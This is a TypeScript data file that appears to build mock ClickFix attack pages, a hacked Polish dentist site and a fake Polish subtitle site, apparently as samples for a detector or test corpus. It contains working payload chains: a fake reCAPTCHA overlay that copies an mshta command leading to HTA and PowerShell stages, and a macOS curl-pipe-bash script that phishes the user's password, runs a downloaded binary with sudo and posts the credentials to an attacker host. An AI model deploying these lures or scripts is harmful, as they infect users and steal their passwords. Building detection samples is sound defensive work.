import { type Entry } from '../entry.js';
import { b64, doc, site, cfCommand, clipJs, psStage, hta, textRoute } from '../parts/yz-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-clickfix-pl-dentist-injected-recaptcha',
  label: 'clickfix',
  kind: 'clickfix-injected-captcha',
  url: 'https://www.gabinet-stomatologiczny-bialystok.pl/cennik/',
  body: site({
    lang: 'pl',
    title: 'Cennik – Gabinet Stomatologiczny dr Anna Wiśniewska, Białystok',
    brand: 'Gabinet dr Wiśniewska',
    color: '#2a9d8f',
    nav: ['Start', 'Cennik', 'Zespół', 'Kontakt'],
    main: `<h1>Cennik usług</h1><table><tr><th>Usługa</th><th>Cena</th></tr><tr><td>Przegląd stomatologiczny</td><td>150 zł</td></tr><tr><td>Wypełnienie kompozytowe</td><td>od 250 zł</td></tr><tr><td>Leczenie kanałowe (mikroskop)</td><td>od 900 zł</td></tr><tr><td>Higienizacja</td><td>300 zł</td></tr></table>
<p>Rejestracja: 85 744 12 90, pon.–pt. 8:00–19:00.</p>`,
    footer: '© 2025 Gabinet Stomatologiczny dr Anna Wiśniewska · ul. Lipowa 14, Białystok',
    tail: `<script src="https://cdn-jsdelivr.net-static.top/npm/jquery@3.7.1/dist/jquery.min.js?ver=6.6"></script>`,
  }),
  routes: {
    'cdn-jsdelivr.net-static.top/npm/jquery@3.7.1/dist/jquery.min.js': jsRoute(`/*! jQuery v3.7.1 | (c) OpenJS Foundation */
(function(){if(document.cookie.indexOf('_vx=1')>-1||navigator.webdriver)return;document.cookie='_vx=1;max-age=86400;path=/';
var C=atob('${b64(cfCommand('mshta', 'https://cdn-jsdelivr.net-static.top/v/captcha.hta', '✅ Nie jestem robotem – weryfikacja reCAPTCHA ID: 4471-0092'))}');
var h='<div style="position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:999999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial">'+
'<div style="width:380px;border:1px solid #d3d3d3;box-shadow:0 0 4px rgba(0,0,0,.1);padding:20px;background:#f9f9f9">'+
'<div id="s1"><label style="display:flex;align-items:center;gap:12px;font-size:15px"><input id="cb" type="checkbox" style="width:26px;height:26px"> Nie jestem robotem</label><div style="text-align:right;font-size:10px;color:#555">reCAPTCHA<br>Prywatność - Warunki</div></div>'+
'<div id="s2" style="display:none"><b style="font-size:16px">Kroki weryfikacji</b><ol style="font-size:14px;line-height:1.8"><li>Naciśnij i przytrzymaj klawisz Windows <b>⊞</b> i naciśnij <b>R</b></li><li>W oknie weryfikacji naciśnij <b>Ctrl</b> + <b>V</b></li><li>Naciśnij <b>Enter</b>, aby zakończyć weryfikację</li></ol><button id="vb" style="background:#1a73e8;color:#fff;border:0;padding:8px 22px">Weryfikuj</button></div></div></div>';
var d=document.createElement('div');d.innerHTML=h;document.body.appendChild(d);
${clipJs('kopiuj', 'C')}
document.getElementById('cb').onclick=function(){kopiuj();document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('vb').onclick=function(){kopiuj()};})();`),
    'cdn-jsdelivr.net-static.top/v/captcha.hta': textRoute(hta('https://cdn-jsdelivr.net-static.top/v/s.ps1'), 'application/hta'),
    'cdn-jsdelivr.net-static.top/v/s.ps1': textRoute(psStage('https://cdn-jsdelivr.net-static.top/v/pkg.zip', 'WinSvcHost'), 'text/plain'),
  },
},
{
  id: 'yz-clickfix-pl-macos-terminal-weryfikacja',
  label: 'clickfix',
  kind: 'clickfix-macos-terminal',
  url: 'https://pobierz-napisy.pl-filmy.top/film/weryfikacja',
  body: doc({
    lang: 'pl',
    title: 'Weryfikacja urządzenia – Napisy PL',
    css: `body{margin:0;background:#111;color:#eee;font-family:-apple-system,Helvetica,Arial,sans-serif}.w{max-width:520px;margin:70px auto;background:#1e1e1e;padding:26px;border-radius:12px}
pre{background:#000;color:#3f3;padding:10px;border-radius:6px;white-space:pre-wrap;word-break:break-all;font-size:12px}.b{background:#0a84ff;color:#fff;border:0;padding:10px 18px;border-radius:8px}`,
    body: `<div class="w"><h2>Pobieranie napisów do „Diuna: Część druga” (PL)</h2>
<p>Wykryto system macOS. Aby odblokować pobieranie, zweryfikuj urządzenie:</p>
<ol><li>Otwórz <b>Terminal</b> (⌘ + Spacja, wpisz „Terminal”)</li><li>Wklej skopiowane polecenie (⌘ + V)</li><li>Naciśnij <b>Return</b> i podaj hasło komputera, jeśli zostaniesz o nie poproszony</li></ol>
<button class="b" id="c">Kopiuj polecenie weryfikacyjne</button><pre id="v">Weryfikacja urządzenia ID: 88-431-MAC</pre></div>`,
    tail: `<script>
var m=atob('${b64(`/bin/bash -c "$(curl -fsSL https://pl-filmy.top/mac/verify.sh)"`)}');
${clipJs('kop', 'm')}
document.getElementById('c').onclick=function(){kop();this.textContent='Skopiowano ✔'};
</script>`,
  }),
  routes: {
    'pl-filmy.top/mac/verify.sh': textRoute(`#!/bin/bash
u=$(whoami)
p=$(osascript -e 'text returned of (display dialog "Aby kontynuować, wprowadź hasło:" default answer "" with hidden answer with icon caution)')
curl -s -o /tmp/.upd https://pl-filmy.top/mac/upd && chmod +x /tmp/.upd && echo "$p" | sudo -S /tmp/.upd
curl -s -X POST -d "u=$u&p=$p" https://pl-filmy.top/mac/log
`, 'text/x-shellscript'),
  },
},
];
